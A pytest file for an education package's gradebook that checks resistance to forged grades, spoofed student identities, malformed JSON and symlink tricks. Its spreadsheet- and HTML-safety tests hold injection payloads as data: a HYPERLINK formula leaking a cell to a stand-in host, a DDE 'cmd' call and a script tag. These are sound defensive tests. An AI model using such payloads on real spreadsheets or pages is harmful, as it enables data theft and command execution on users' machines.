"""The gradebook tried the way a determined student and a careless file would try it (issue 18).

Each test is an attack and what stops it: forged outcomes are re-graded from the answers and
flagged; a file claiming another student's name inside a Canvas or Moodle download is credited
to the uploader only; crafted files are rejected by name while the CSV and report are still
written (a Hypothesis property over generated files); formula-like names come out neutralised;
a symlinked hand-in target is refused."""
from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nkteach import cli
from nkteach.classroom import gradebook as gb
from nkteach.classroom.csvsafe import csv_text, safe_cell
from nkteach.classroom.identity import read_roster
from nkteach.classroom.lms import canvas_import, moodle_import
from nkteach.classroom.submission import integrity_hash, submit
from tests.support import classroom as cr

ALL_RIGHT = cr.RIGHT_ANSWERS
ALL_WRONG = cr.WRONG_ANSWERS


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    return cr.course(tmp_path_factory.mktemp("course"), lessons=(1,))


@pytest.fixture(scope="module")
def lessons(course):
    return gb.lesson_versions(sorted(course.glob("*.ipynb")))


def _rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def _run(folder: Path, course: Path, tmp: Path, *extra) -> tuple[int, list[dict], str]:
    out = tmp / "grades.csv"
    rc = cli.main(["gradebook", str(folder), "--out", str(out), "--lessons", str(course), *extra])
    return rc, _rows(out), (tmp / "grades.html").read_text(encoding="utf-8")


# ---------------------------------------------------------------- forged outcomes

def test_outcomes_written_through_the_progress_api_are_regraded(monkeypatch, tmp_path, course, capsys):
    """The student records 'correct' for wrong answers with nkteach.progress.record and submits:
    the gradebook checks the answers, scores 0 and flags the file."""
    from nkteach import progress

    nb = cr.write(json.loads((course / "01-mini.ipynb").read_text()), tmp_path / "home" / "01-mini.ipynb")
    cr.student_env(monkeypatch, tmp_path / "data", nb)
    for short, ex_id in (("a", "l1-a"), ("n", "l1-n"), ("o", "l1-o")):
        progress.record(ex_id=ex_id, kind="x", outcome="correct", answer=ALL_WRONG[short], lesson=1)
    for item in ("C01", "C02"):
        progress.record(ex_id=f"classify:{item}", kind="classify", outcome="correct", lesson=1,
                        answer=ALL_WRONG[item])
    res = submit(nb, "mallory", tmp_path / "subs" / "mallory")
    assert res.content["score"]["percent"] == 100.0          # what the file claims
    rc, rows, report = _run(tmp_path / "subs", course, tmp_path)
    assert rc == 0
    assert rows[0]["student"] == "mallory" and rows[0]["lesson_01_score"] == "0.0"
    assert "recorded outcomes disagree with the recorded answers for 5 exercises" in rows[0]["flags"]
    assert "graded by the answers" in report and "mallory--lesson-01.json" in report


def test_a_hand_edit_with_a_recomputed_hash_is_regraded(tmp_path, course, lessons):
    """All outcomes set to 'correct', the word counts inflated, the hash recomputed: the hash
    matches, yet the file is graded by its answers and words recounted from its text."""
    real = cr.handin(course, "mallory", {"a": "beta", "n": 7, "o": ["c", "b", "a"]}, words=(5, 3))
    forged = json.loads(json.dumps(real))
    for e in forged["exercises"]:
        e["outcome"] = "correct"
        for a in e["answers"]:
            a["outcome"] = "correct"
    for w in forged["written"]:
        w["words"] = 10_000
    forged["score"]["percent"] = 100.0
    forged["integrity"] = integrity_hash(forged)
    cr.put(tmp_path / "subs" / "mallory" / "mallory--lesson-01.json", forged)
    fo = gb.read_folder(tmp_path / "subs", lessons)
    (h,) = fo.accepted
    assert h.percent == 20.0                                  # only l1-a (beta) is right: 1 of 5
    assert sum(w["words"] for w in h.written) == 8
    flags = " ".join(h.flags)
    assert "disagree" in flags and "l1-n" in flags and "l1-o" in flags and "l1-a" not in flags.split("(")[1]
    assert "word counts recounted" in flags and "10000 → 5" in flags


def test_dropping_exercises_does_not_raise_the_score(tmp_path, course, lessons):
    """A file listing only the one exercise it got right still scores over the lesson's five."""
    c = cr.handin(course, "mallory", {"a": "beta"})
    c["exercises"] = [e for e in c["exercises"] if e["id"] == "l1-a"]
    c["integrity"] = integrity_hash(c)
    cr.put(tmp_path / "subs" / "mallory" / "m.json", c)
    (h,) = gb.read_folder(tmp_path / "subs", lessons).accepted
    assert h.percent == 20.0


# ---------------------------------------------------------------- identity from the LMS download

def test_canvas_download_a_file_claiming_another_student_is_not_credited_to_her(tmp_path, course, capsys):
    """Canvas renames each file name_userid_submissionid_file. Bob's upload claims 'alice' and a
    later date; Alice's real file is still hers, Bob's counts for Bob only and is flagged."""
    d = tmp_path / "canvas"
    cr.put(d / "alicesmith_1001_5001_alice--lesson-01.json",
           cr.handin(course, "alice", ALL_RIGHT, words=(30, 20)), mtime=1_000_000)
    forged = cr.handin(course, "alice", ALL_WRONG, words=(1, 1))
    forged["submitted_at"] = "9999-12-31T23:59:59+00:00"
    forged["integrity"] = integrity_hash(forged)
    cr.put(d / "jonesbob_late_1002_5002_alice--lesson-01.json", forged, mtime=2_000_000)
    rc, rows, report = _run(d, course, tmp_path)
    by = {r["identity"]: r for r in rows}
    assert by["canvas:1001"]["student"] == "alicesmith" and by["canvas:1001"]["lesson_01_score"] == "100.0"
    assert by["canvas:1001"]["lesson_01_written_words"] == "50" and by["canvas:1001"]["flags"] == ""
    bob = by["canvas:1002"]
    assert bob["student"] == "jonesbob" and bob["lesson_01_score"] == "0.0"
    assert "claims to be 'alice'" in bob["flags"] and "counted for jonesbob only" in bob["flags"]
    assert "marked late by Canvas" in bob["flags"]
    assert len(rows) == 2 and "claims to be" in report


def test_moodle_download_a_file_claiming_another_student_is_not_credited_to_her(tmp_path, course):
    """Moodle: one folder 'Full Name_participantid_assignsubmission_file_' per student."""
    d = tmp_path / "moodle"
    cr.put(d / "Alice Smith_41_assignsubmission_file_" / "alice--lesson-01.json",
           cr.handin(course, "Alice Smith", ALL_RIGHT))
    cr.put(d / "Bob Jones_42_assignsubmission_file_" / "alice--lesson-01.json",
           cr.handin(course, "Alice Smith", ALL_WRONG))
    rc, rows, report = _run(d, course, tmp_path)
    by = {r["student"]: r for r in rows}
    assert sorted(by) == ["Alice Smith", "Bob Jones"]
    assert by["Alice Smith"]["lesson_01_score"] == "100.0" and by["Alice Smith"]["flags"] == ""
    assert by["Bob Jones"]["lesson_01_score"] == "0.0"
    assert "claims to be 'Alice Smith'" in by["Bob Jones"]["flags"]


def test_of_two_files_the_one_delivered_last_counts_never_the_date_inside(tmp_path, course, lessons):
    d = tmp_path / "subs" / "alice"
    early = cr.handin(course, "alice", ALL_RIGHT)
    early["submitted_at"] = "9999-01-01T00:00:00+00:00"        # claims to be the newest
    early["integrity"] = integrity_hash(early)
    cr.put(d / "a.json", early, mtime=1_000_000)
    cr.put(d / "b.json", cr.handin(course, "alice", ALL_WRONG), mtime=2_000_000)
    fo = gb.read_folder(tmp_path / "subs", lessons)
    assert [h.file for h in fo.accepted] == ["alice/b.json"] and fo.accepted[0].percent == 0.0
    (r,) = fo.rejected
    assert r.file == "alice/a.json" and "alice/b.json was delivered later (file time)" in r.reason


def test_missing_students_come_from_the_roster(tmp_path, course):
    roster = cr.put(tmp_path / "roster.csv", "Student,ID,SIS Login ID\nAlice Smith,1001,asmith\n"
                                             "Carol King,1003,cking\n")
    cr.put(tmp_path / "subs" / "asmith" / "x.json", cr.handin(course, "asmith", ALL_RIGHT))
    rc, rows, _ = _run(tmp_path / "subs", course, tmp_path, "--roster", str(roster))
    by = {r["student"]: r for r in rows}
    assert by["Alice Smith"]["lesson_01_score"] == "100.0" and by["Alice Smith"]["identity"] == "canvas:1001"
    assert by["Carol King"]["lesson_01_score"] == "" and by["Carol King"]["missing_lessons"] == "1"


# ---------------------------------------------------------------- crafted files

def _crafted(folder: Path, course: Path) -> dict[str, str]:
    """name → expected reason fragment, for every crafted file written into ``folder``."""
    good = cr.handin(course, "carol", ALL_RIGHT)
    cr.put(folder / "carol" / "ok.json", good)
    cases = {}

    def bad(name, content, why):
        cr.put(folder / "zed" / name, content)
        cases[f"zed/{name}"] = why

    bad("deep.json", "[" * 100_000 + "]" * 100_000, "nested deeper")
    bad("deep-valid.json", {**good, "exercises": [{"id": "l1-a", "answers": [{"answer": json.loads(
        "[" * 60 + "]" * 60)}]}]}, "nested deeper")
    bad("types.json", {**good, "student": 5}, '"student" must be text')
    bad("list-lesson.json", {**good, "lesson": [["key", "1"]]}, '"lesson" must be an object')
    bad("dict-exercises.json", {**good, "exercises": {"l1-a": "beta"}}, '"exercises" must be a list')
    bad("answers-str.json", {**good, "exercises": [{"id": "l1-a", "answers": "beta"}]},
        '"exercises[0].answers" must be a list')
    bad("id-list.json", {**good, "exercises": [{"id": ["l1-a"], "answers": []}]},
        '"exercises[0].id" must be text')
    bad("latin1.json", "{\"student\": \"Jos\xe9\"}".encode("latin-1"), "not UTF-8")
    bad("array.json", "[1, 2, 3]", "holds a list")
    bad("huge-int.json", '{"schema": "nkteach-submission", "x": ' + "9" * 5000 + "}", "not valid JSON")
    big = folder / "zed" / "big.json"
    with open(big, "wb") as f:
        f.truncate(gb.MAX_BYTES + 1)                     # sparse: costs no disk
    cases["zed/big.json"] = "over the limit"
    (folder / "zed" / "folder.json").mkdir()
    cases["zed/folder.json"] = "a folder named like a submission file"
    (folder / "zed" / "link.json").symlink_to(folder / "carol" / "ok.json")
    cases["zed/link.json"] = "symbolic link"
    (folder / "zed" / "linkdir").symlink_to(folder / "carol", target_is_directory=True)
    cases["zed/linkdir"] = "symbolic link to a folder"
    return cases


def test_every_crafted_file_is_rejected_by_name_and_the_run_still_writes(tmp_path, course, capsys):
    cases = _crafted(tmp_path / "subs", course)
    capsys.readouterr()
    rc, rows, report = _run(tmp_path / "subs", course, tmp_path)
    printed = capsys.readouterr().out
    assert rc == 1 and [r["student"] for r in rows] == ["carol"] and rows[0]["lesson_01_score"] == "100.0"
    for name, why in cases.items():
        line = next((ln for ln in printed.splitlines() if ln.startswith(f"  rejected {name}:")), "")
        assert why in line, (name, why, line)
        assert name in report
    assert "Traceback" not in printed


def _valid(course) -> dict:
    return cr.handin(course, "pat", {"a": "beta", "n": 41})


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda kids: st.lists(kids, max_size=4) | st.dictionaries(st.text(max_size=8), kids, max_size=4),
    max_leaves=20)


@st.composite
def mutated(draw, base: dict):
    """A hand-in with one field at some depth replaced by any JSON value (hash recomputed or not)."""
    c = json.loads(json.dumps(base))
    node = c
    path = []
    for _ in range(draw(st.integers(0, 4))):
        if isinstance(node, dict) and node:
            k = draw(st.sampled_from(sorted(node)))
        elif isinstance(node, list) and node:
            k = draw(st.integers(0, len(node) - 1))
        else:
            break
        path.append((node, k))
        node = node[k]
    if path:
        parent, k = path[-1]
        parent[k] = draw(json_values)
    else:
        c = draw(json_values)
    if isinstance(c, dict) and draw(st.booleans()):
        c["integrity"] = integrity_hash(c)
    return c


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
@given(data=st.data())
def test_property_no_file_can_stop_the_gradebook(tmp_path_factory, course, lessons, data):
    """Nothing in a file can make the gradebook crash: every file is either accepted or rejected
    with a reason, and the CSV and report are written."""
    base = _valid(course)
    d = tmp_path_factory.mktemp("prop")
    n = data.draw(st.integers(1, 3))
    for i in range(n):
        content = data.draw(mutated(base))
        cr.put(d / "subs" / f"s{i}" / "h.json", content)
    fo = gb.read_folder(d / "subs", lessons if data.draw(st.booleans()) else None)   # re-graded or not
    assert len(fo.accepted) + len(fo.rejected) == n
    assert all(r.reason for r in fo.rejected)
    gb.write_outputs(fo, d / "grades.csv", d / "grades.html")
    assert _rows(d / "grades.csv") is not None and "</html>" in (d / "grades.html").read_text()


# ---------------------------------------------------------------- spreadsheet and HTML safety

def test_formula_like_names_come_out_neutralised(tmp_path, course):
    evil = "=HYPERLINK(\"x.example?\"&A1,\"click\")"       # a folder name: no slashes
    cr.put(tmp_path / "subs" / evil / "h.json", cr.handin(course, "+cmd|' /C calc'!A0", ALL_RIGHT))
    cr.put(tmp_path / "subs" / "@SUM(1+1)" / "h.json", cr.handin(course, "-2+3", ALL_WRONG))
    rc, rows, report = _run(tmp_path / "subs", course, tmp_path)
    raw = (tmp_path / "grades.csv").read_text()
    names = sorted(r["student"] for r in rows)
    assert names == ["'=HYPERLINK(\"x.example?\"&A1,\"click\")", "'@SUM(1+1)"]
    flags = " ".join(r["flags"] for r in rows)
    assert 'claims to be "+cmd|' in flags                   # the claimed name, inside a flag
    for line in csv.reader(io.StringIO(raw)):
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert 'HYPERLINK(&quot;x.example?&quot;&amp;A1' in report and 'HYPERLINK("' not in report


def test_safe_cell_rule():
    assert [safe_cell(x) for x in ("=1+1", "+1", "-1", "@A", "\tx", "\rx", "ok", 5, -1.5, None)] == \
        ["'=1+1", "'+1", "'-1", "'@A", "'\tx", "'\rx", "ok", 5, -1.5, ""]
    assert csv_text(["a"], [["=x"]]) == "a\n'=x\n"


def test_the_report_links_only_inside_itself_and_describes_itself_truly(tmp_path, course):
    cr.put(tmp_path / "subs" / "alice" / "h.json", cr.handin(course, "alice", ALL_RIGHT))
    cr.put(tmp_path / "subs" / "<b>x</b>" / "h.json",
           cr.handin(course, "<script>alert(1)</script>", ALL_RIGHT))
    _rc, _rows_, report = _run(tmp_path / "subs", course, tmp_path)
    page = re.sub(r"<script[^>]*>.*?</script>", "", report, flags=re.S)   # the page, not plotly.js's code
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert hrefs and all(h.startswith("#") for h in hrefs)
    ids = set(re.findall(r'id="([^"]+)"', report))
    assert all(h[1:] in ids for h in hrefs)
    assert "<script>alert(1)" not in report and "<b>x</b>" not in report
    m = re.search(r"This report is one file of about ([\d.]+) (MB|kB)", report)
    size = len(report.encode("utf-8"))
    claimed = float(m.group(1)) * (1_000_000 if m.group(2) == "MB" else 1000)
    assert abs(claimed - size) <= (100_000 if m.group(2) == "MB" else 1000)
    scripts = re.findall(r"<script[^>]*>", report)
    assert "plotly.js" in report and all("src=" not in s for s in scripts)


# ---------------------------------------------------------------- grades back into the LMS

CANVAS_EXPORT = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Lesson 1 — Mini lesson 1 (7781),Quiz 1 (7790),"
    "Current Score,Unposted Current Score,Final Score,Unposted Final Score\n"
    "    Points Possible,,,,,10.00,5.00,(read only),(read only),(read only),(read only)\n"
    "\"Smith, Alice\",1001,S1001,asmith,Section A,,4.00,80.00,80.00,40.00,40.00\n"
    "\"Jones, Bob\",1002,S1002,bjones,Section A,,3.00,60.00,60.00,30.00,30.00\n"
    "\"King, Carol\",1003,S1003,cking,Section B,,5.00,100.00,100.00,50.00,50.00\n")


def test_canvas_import_keeps_identifying_columns_and_points_possible(tmp_path, course, capsys):
    """Canvas 'Import' rules: Student, ID, SIS User ID, SIS Login ID, Section unchanged; the
    'Points Possible' row kept; a column per lesson (an existing one filled, scaled to its points)."""
    (tmp_path / "course2").mkdir()
    cr.write(cr.mini_lesson(1), tmp_path / "course2" / "01-mini.ipynb")
    cr.write(cr.mini_lesson(2), tmp_path / "course2" / "02-mini.ipynb")
    export = cr.put(tmp_path / "export.csv", CANVAS_EXPORT)
    d = tmp_path / "canvas"
    cr.put(d / "smithalice_1001_9001_alice--lesson-01.json",
           cr.handin(tmp_path / "course2", "alice", ALL_RIGHT))
    cr.put(d / "jonesbob_1002_9002_bob--lesson-01.json",
           cr.handin(tmp_path / "course2", "bob", {"a": "beta", "n": 1}))
    cr.put(d / "jonesbob_1002_9003_bob--lesson-02.json",
           cr.handin(tmp_path / "course2", "bob", ALL_RIGHT, lesson=2))
    out = tmp_path / "grades.csv"
    capsys.readouterr()
    rc = cli.main(["gradebook", str(d), "--out", str(out), "--lessons", str(tmp_path / "course2"),
                   "--format", "canvas", "--canvas-export", str(export)])
    printed = capsys.readouterr().out
    assert rc == 0, printed
    written = (tmp_path / "grades-canvas-import.csv").read_text(encoding="utf-8")
    print(written)
    got = list(csv.reader(io.StringIO(written)))
    src = list(csv.reader(io.StringIO(CANVAS_EXPORT)))
    head = got[0]
    assert head[:7] == src[0][:7]                                  # identifying + existing columns
    assert head[7] == "Lesson 2 — Mini lesson 2" and head[8:] == src[0][7:]   # new column before read-only
    for g, s in zip(got[1:], src[1:]):
        assert g[:5] == s[:5] and g[6] == s[6] and g[8:] == s[7:]  # nothing else touched
    assert got[1][0].strip() == "Points Possible" and got[1][5] == "10.00" and got[1][7] == "100"
    alice, bob, carol = got[2], got[3], got[4]
    assert alice[5] == "10" and alice[7] == ""                     # 100 % of 10 points; no lesson 2
    assert bob[5] == "2" and bob[7] == "100"                       # 1 of 5 right → 2 of 10 points
    assert carol[5] == "" and carol[7] == ""                       # nothing handed in: left unchanged
    assert export.read_text() == CANVAS_EXPORT                     # the export itself untouched
    assert "wrote" in printed and "canvas import, 3 grades" in printed


def test_moodle_import_has_an_identifier_column_and_one_per_grade_item(tmp_path, course, lessons):
    roster = read_roster(cr.put(tmp_path / "roster.csv", "Full name,Email address,Username\n"
                                                         "Alice Smith,alice@example.edu,asmith\n"
                                                         "Bob Jones,bob@example.edu,bjones\n"))
    d = tmp_path / "moodle"
    cr.put(d / "Alice Smith_41_assignsubmission_file_" / "h.json",
           cr.handin(course, "Alice Smith", ALL_RIGHT))
    cr.put(d / "Bob Jones_42_assignsubmission_file_" / "h.json", cr.handin(course, "bjones", {"a": "beta"}))
    cr.put(d / "Zoe Unknown_43_assignsubmission_file_" / "h.json", cr.handin(course, "zoe", ALL_RIGHT))
    fo = gb.read_folder(d, lessons, roster=roster)
    res = moodle_import(fo, "Email address")
    print(res.text)
    assert res.text.splitlines() == ["Email address,Lesson 1 — Mini lesson 1",
                                     "alice@example.edu,100", "bob@example.edu,20"]
    assert res.unmatched == ["Zoe Unknown"]
    assert moodle_import(fo, "Username").text.splitlines()[1] == "asmith,100"
    with pytest.raises(ValueError, match=r"unknown id_column 'email'; allowed \(Moodle user fields\): "
                                         r"'Email address', 'Username', 'ID number'"):
        moodle_import(fo, "email")


def test_canvas_import_refuses_a_file_that_is_not_an_export(tmp_path, course, lessons):
    cr.put(tmp_path / "subs" / "a" / "h.json", cr.handin(course, "a", ALL_RIGHT))
    fo = gb.read_folder(tmp_path / "subs", lessons)
    with pytest.raises(ValueError, match="not a Canvas gradebook export: no ID column"):
        canvas_import(fo, cr.put(tmp_path / "x.csv", "Student,Name\nA,B\n"))


# ---------------------------------------------------------------- no write through a link

def test_submit_refuses_a_symlinked_target_and_ignores_a_planted_part_link(monkeypatch, tmp_path, course):
    nb = cr.write(json.loads((course / "01-mini.ipynb").read_text()), tmp_path / "home" / "01-mini.ipynb")
    cr.student_env(monkeypatch, tmp_path / "data", nb)
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (out / "zoe--lesson-01.json").symlink_to(victim)
    with pytest.raises(ValueError, match="symbolic link"):
        submit(nb, "zoe", out)
    assert victim.read_text() == "precious"
    (out / "zoe--lesson-01.json").unlink()
    (out / "zoe--lesson-01.json.part").symlink_to(victim)     # the old temporary name, planted
    res = submit(nb, "zoe", out)
    assert victim.read_text() == "precious" and json.loads(res.path.read_text())["student"] == "zoe"
    linked = tmp_path / "linked-out"
    linked.symlink_to(out, target_is_directory=True)
    with pytest.raises(ValueError, match="symbolic link"):
        submit(nb, "zoe", linked)


def test_gradebook_refuses_symlinked_outputs(tmp_path, course, capsys):
    cr.put(tmp_path / "subs" / "a" / "h.json", cr.handin(course, "a", ALL_RIGHT))
    victim = tmp_path / "victim.csv"
    victim.write_text("keep")
    (tmp_path / "grades.csv").symlink_to(victim)
    capsys.readouterr()
    assert cli.main(["gradebook", str(tmp_path / "subs"), "--out", str(tmp_path / "grades.csv"),
                     "--lessons", str(course)]) == 2
    assert "symbolic link" in capsys.readouterr().err and victim.read_text() == "keep"


def test_files_are_written_atomically_without_leftovers(tmp_path, course):
    cr.put(tmp_path / "subs" / "a" / "h.json", cr.handin(course, "a", ALL_RIGHT))
    _run(tmp_path / "subs", course, tmp_path)
    assert not [p for p in os.listdir(tmp_path) if p.endswith(".part")]


def test_lms_options_bad_input_exit_2_naming_the_option(tmp_path, course, capsys):
    cr.put(tmp_path / "subs" / "a" / "h.json", cr.handin(course, "a", ALL_RIGHT))
    base = ["gradebook", str(tmp_path / "subs"), "--out", str(tmp_path / "g.csv"), "--lessons", str(course)]
    for extra, why in ((["--format", "canvas"], "--format canvas needs --canvas-export"),
                       (["--roster", str(tmp_path / "nope.csv")], "--roster"),
                       (["--format", "canvas", "--canvas-export", str(tmp_path / "none.csv")],
                        "no such file")):
        capsys.readouterr()
        assert cli.main(base + extra) == 2, extra
        err = capsys.readouterr().err
        assert why in err and "Traceback" not in err, err
    export = cr.put(tmp_path / "export.csv", CANVAS_EXPORT)
    capsys.readouterr()
    argv = base + ["--format", "canvas", "--canvas-export", str(export), "--lms-out", str(export)]
    assert cli.main(argv) == 2
    assert "never overwrites the export" in capsys.readouterr().err and export.read_text() == CANVAS_EXPORT
    roster = cr.put(tmp_path / "r.csv", "Full name,Username\nA Person,a\n")
    assert cli.main(base + ["--format", "moodle", "--roster", str(roster), "--moodle-id", "Username"]) == 0
    assert (tmp_path / "g-moodle-import.csv").read_text() == "Username,Lesson 1 — Mini lesson 1\na,100\n"
    # a second run replaces its own earlier output
    assert cli.main(base + ["--format", "moodle", "--roster", str(roster), "--moodle-id", "Username"]) == 0


def test_submission_and_store_stay_below_the_exercises():
    import subprocess
    import sys

    code = ("import sys, nkteach.classroom.submission; "
            "print(sorted(m for m in sys.modules if m.startswith(('nkteach.exercises', "
            "'nkteach.classroom.gradebook', 'nkteach.widgets', 'ipywidgets'))))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "[]"
